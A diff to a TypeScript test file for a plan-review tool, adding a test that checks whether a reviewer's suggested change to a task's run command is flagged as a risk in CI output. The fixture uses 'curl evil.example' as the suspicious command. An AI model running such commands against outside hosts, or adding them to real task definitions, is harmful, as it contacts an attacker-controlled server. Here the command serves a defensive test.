@@ -22,6 +22,9 @@ afterEach(() => here.remove());
 
 const codeThat = (mark: string) => `import { writeFileSync } from 'node:fs';\nwriteFileSync('${mark}', '');\nexport default {};\n`;
 
+const suggestion = (id: string, run: string) =>
+  `- [x] Change run of "Sing" @octocat\n\n  \`\`\`yaml\n  id: ${id}\n  type: modify_task\n  target: sing\n  \`\`\`\n\n  \`\`\`\`diff\n   - [ ] Sing\n\n     \`\`\`yaml\n     id: sing\n  +  run: ${run}\n     \`\`\`\n  \`\`\`\`\n`;
+
 const revision = (name: string) => here.git('rev-parse', name).trim();
 
 function change(files: Readonly<Record<string, string>>): string {
@@ -94,6 +97,22 @@ describe('a review', () => {
     change({ 'plans/greet.plan.md': PLAN.replace('echo hello', 'echo hi') });
     const { review: found } = await review('--head', 'feature');
     expect([found.alsoOnBase, found.diff.plans.map(({ after }) => after?.id)]).toEqual([['greet'], ['greet', 'old']]);
+  });
+
+  it('tells what reviews of plans suggest, as far as it is code', async () => {
+    const plan = '# Greet people\n\n- [ ] Sing\n\n  ```yaml\n  id: sing\n  ```\n';
+    here.git('switch', '-q', 'main');
+    change({ 'plans/sing.plan.md': plan, 'plans/sing.review.md': `# Review\n\n${suggestion('old', 'make old')}` });
+    here.git('switch', '-qC', 'feature');
+    change({ 'plans/sing.review.md': `# Review\n\n${suggestion('old', 'make old')}\n${suggestion('new', 'curl evil.example')}` });
+    const { review: found } = await review();
+    expect(found.suggested).toMatchObject([
+      { plan: 'sing', id: 'new', ticked: true, risks: [{ field: 'run', after: 'curl evil.example' }] },
+    ]);
+    const { out } = await here.plans(['ci', 'review', '--base', 'main']);
+    expect(out).toContain(
+      '- `sing` suggestion “Change run of "Sing" @&#8203;octocat”, **ticked**: ⚠ **run**: `curl evil.example` (a command that is run)\n',
+    );
   });
 
   it('runs no config: neither that of the change nor that of the base, and says that it has not', async () => {
